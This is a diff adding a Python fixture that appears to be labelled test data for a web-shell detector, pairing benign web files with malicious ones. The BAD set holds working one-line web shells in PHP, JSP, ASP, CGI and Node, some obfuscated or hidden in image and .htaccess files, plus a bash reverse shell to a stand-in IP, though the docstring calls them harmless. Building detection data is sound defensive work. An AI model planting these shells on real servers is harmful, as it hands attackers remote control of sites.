@@ -1,0 +1,92 @@
+"""A labelled set of files as web roots have them: harmless texts in the manner of web shells, and honest code of common kinds."""
+# ruff: noqa: E501
+
+PACKED = (
+    "".join(chr(33 + (7 * n * n + 3 * n) % 90) for n in range(600))
+    .replace("'", "A")
+    .replace('"', "B")
+    .replace("\\", "C")
+)
+
+BAD: dict[str, str] = {
+    "a.php": "<?php @eval($_POST['x']);",
+    "b.php": '<?php system($_GET["cmd"]); ?>',
+    "c.php": "<?php $c = $_REQUEST['c']; echo shell_exec($c);",
+    "d.php": "<?php $a = $_POST['a']; $b = $a . ' 2>&1'; passthru($b);",
+    "e.php": "<?php eval(gzinflate(base64_decode('S0ktLk5NTFGwVQIA')));",
+    "f.php": "<?php $f = 'sys' . 'tem'; $f($_GET['q']);",
+    "g.php": "<?php $_GET['a']($_GET['b']);",
+    "h.php": "<?php assert(stripslashes($_COOKIE['k']));",
+    "i.php": "<?php preg_replace('/.*/e', $_POST['r'], '');",
+    "j.php": "<?php array_map('assert', (array) $_REQUEST['v']);",
+    "k.php": "<?php $x = create_function('', $_POST['code']); $x();",
+    "l.php": "<?php echo `{$_GET['c']}`;",
+    "m.php": "<?php include($_GET['page']);",
+    "n.php": "<?php file_put_contents($_POST['f'], $_POST['d']);",
+    "o.php": "<?php file_put_contents('x.php', file_get_contents('php://input'));",
+    "p.php": "<?php include '/tmp/sess_logo.png'; ?>",
+    "q.php": '<?php $n = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $n($_SERVER["HTTP_X_CMD"]);',
+    "r.php": "<?php call_user_func($_GET['f'], $_GET['a']);",
+    "s.php": "<?php /* theme helper */ if (md5($_POST['p']) === 'x') { $h = popen($_POST['c'], 'r'); echo fread($h, 99); }",
+    "t.php": f"<?php $d = '{PACKED}'; eval(str_rot13($d));",
+    "u.php": "<?php ('ass'.'ert')($_POST[1]);",
+    "v.php": "<?php $i = getallheaders(); $k = $i['X-T']; eval($k);",
+    "w.php": "<?php $h = $_SERVER['HTTP_ACCEPT_LANGUAGE']; proc_open($h, [], $p);",
+    "uploads/logo.jpg": "\xff\xd8\xff\xe0JFIF\0\0<?php system($_GET['x']); ?>",
+    "favicon.ico": "<?php if (isset($_POST['z'])) { eval($_POST['z']); }",
+    ".htaccess": "AddHandler application/x-httpd-php .jpg\n",
+    "site/.htaccess": "php_value auto_prepend_file /tmp/.cache.txt\n",
+    "a.jsp": '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
+    "b.jsp": '<% String c = request.getParameter("c"); Process p = new ProcessBuilder("/bin/sh", "-c", c).start(); %>',
+    "c.jsp": '<% byte[] b = Base64.getDecoder().decode(request.getParameter("b")); new L(x).defineClass(b); %>',
+    "a.aspx": '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
+    "b.asp": '<%execute request("z")%>',
+    "c.aspx": '<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>',
+    "a.cgi": "#!/usr/bin/perl\nuse CGI;\nmy $c = param('c');\nprint `$c`;\n",
+    "b.py": "#!/usr/bin/python3\nimport cgi, os\nf = cgi.FieldStorage()\ncmd = f.getvalue('c')\nprint(os.popen(cmd).read())\n",
+    "c.sh": '#!/bin/sh\neval "$QUERY_STRING"\n',
+    "d.sh": "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n",
+    "server.js": "app.get('/x', (req, res) => { require('child_process').exec(req.query.c, (e, o) => res.send(o)); });",
+}
+
+GOOD: dict[str, str] = {
+    "index.php": "<?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
+    "config.php": "<?php return ['db' => ['host' => 'localhost', 'user' => 'app'], 'key' => 'a8f5f167f44f4964e6c998dee827110c'];",
+    "contact.php": "<?php $name = htmlspecialchars($_POST['name'] ?? ''); mail('a@example.org', 'Contact', $name); echo 'Thanks';",
+    "login.php": "<?php session_start(); $u = $_POST['user']; $s = $db->prepare('SELECT * FROM u WHERE n = ?'); $s->execute([$u]);",
+    "upload.php": "<?php $t = 'uploads/' . basename($_FILES['f']['name']); if (in_array($x, $ok)) move_uploaded_file($_FILES['f']['tmp_name'], $t);",
+    "page.php": "<?php $pages = ['a', 'b']; $p = in_array($_GET['p'] ?? '', $pages, true) ? $_GET['p'] : 'a'; include __DIR__ . '/pages/a.php';",
+    "image.php": "<?php $i = intval($_GET['id']); $cmd = 'convert in.png -resize ' . escapeshellarg($i) . ' out.png'; exec($cmd);",
+    "git.php": "<?php $out = shell_exec('git rev-parse HEAD'); echo trim($out);",
+    "jwt.php": "<?php function decode($jwt) { [$h, $p] = explode('.', $jwt); return json_decode(base64_decode(strtr($p, '-_', '+/')), true); }",
+    "icon.php": "<?php header('Content-Type: image/png'); echo base64_decode('"
+    + "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ" * 12
+    + "');",
+    "router.php": "<?php $uri = parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH); $routes[$uri]['handler'](); ",
+    "template.php": "<ul><?php foreach ($items as $i): ?><li><?= $this->escape($i) ?></li><?php endforeach ?></ul>",
+    "container.php": "<?php $c->set('mailer', function ($c) { return new Mailer($c->get('dsn')); }); array_map('trim', $lines);",
+    "twig.php": "<?php class E { public function render($t, array $c) { extract($c); ob_start(); include $this->path . $t; return ob_get_clean(); } }",
+    "cache.php": "<?php file_put_contents($this->dir . '/cache.json', json_encode($data));",
+    "log.php": "<?php file_put_contents('/var/log/app.log', $_SERVER['REMOTE_ADDR'] . ' ' . $_GET['q'] . \"\\n\", FILE_APPEND);",
+    "sort.php": "<?php usort($rows, fn($a, $b) => $a['n'] <=> $b['n']); $f = 'strtolower'; echo $f('X');",
+    "query.php": "<?php $st = $pdo->exec('DELETE FROM cache'); $r = $curl->exec($_POST['u']);",
+    "docs.php": "<?php // never eval($_POST['x']) or system($_GET['y'])\n# exec($_GET['z'])\n/* assert($_COOKIE['a']) */ echo 'ok';",
+    "test.php": "<?php assert($user instanceof User); assert(count($list) > 0);",
+    "uploads/index.php": "<?php // Silence is golden.\n",
+    "old.inc": "<?php function e($s) { return preg_replace('/[^a-z]/i', '', $s); }",
+    "callback.php": "<?php add_action('init', 'my_init'); call_user_func([$this, 'boot'], $args); call_user_func_array($cb, $params);",
+    "photo.jpg": "\xff\xd8\xff\xe0\x00\x10JFIF" + "".join(chr((n * 37) % 256) for n in range(800)),
+    "robots.txt": "User-agent: *\nDisallow: /admin\n",
+    "readme.txt": "Call system() with care; see the manual on eval.\n",
+    "app.js": "document.querySelector('#a').addEventListener('click', () => fetch('/api').then(r => r.json()));",
+    "jquery.min.js": "!function(e,t){'use strict';var n=[],r=Object.getPrototypeOf;function o(e){return eval(e)}t.exec=/x/.exec('x')}(window);",
+    "server.mjs": "app.get('/q', async (req, res) => { const r = await pool.query('SELECT $1', [req.query.q]); res.json(/a/.exec('a')); });",
+    "build.js": "const {execSync} = require('child_process'); execSync('npm run build', {stdio: 'inherit'});",
+    ".htaccess": "RewriteEngine On\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule ^ index.php [L]\nAddType application/x-httpd-php .php\n",
+    "view.jsp": '<%@ page language="java" %><c:out value="${param.name}"/><% String n = request.getParameter("n"); out.print(esc(n)); %>',
+    "default.aspx": '<%@ Page Language="C#" %><asp:Label runat="server" Text=\'<%# Server.HtmlEncode(Request["q"]) %>\' />',
+    "count.cgi": "#!/usr/bin/perl\nuse CGI;\nmy $p = param('page');\nprint 'Content-type: text/plain', \"\\n\\n\", length($p);\nsystem('/usr/bin/uptime');\n",
+    "hook.sh": "#!/bin/sh\nset -e\ncd /srv/app && git pull --ff-only\n",
+    "feed.xml": '<?xml version="1.0"?><rss><channel><title>News</title></channel></rss>',
+    "style.css": "body { background: url(data:image/png;base64,iVBORw0KGgo=) }",
+}
